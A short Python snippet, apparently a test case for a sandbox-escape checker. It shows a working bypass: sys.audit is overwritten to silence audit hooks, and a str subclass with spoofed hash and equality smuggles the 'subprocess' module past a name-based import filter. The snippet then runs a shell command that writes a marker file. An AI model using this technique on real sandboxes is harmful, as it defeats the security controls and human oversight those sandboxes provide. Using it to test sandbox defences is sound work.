# A module's name is a str that compares as another one.
# breach: marker
# state: kept
import sys
sys.audit = lambda *arguments: None
class Name(str):
    def __hash__(self):
        return hash("math")
    def __eq__(self, other):
        return other in ("math", "subprocess")
__import__("subprocess", fromlist=(Name("x"),)).call(["sh", "-c", f"echo > {MARKER_FILE}"])
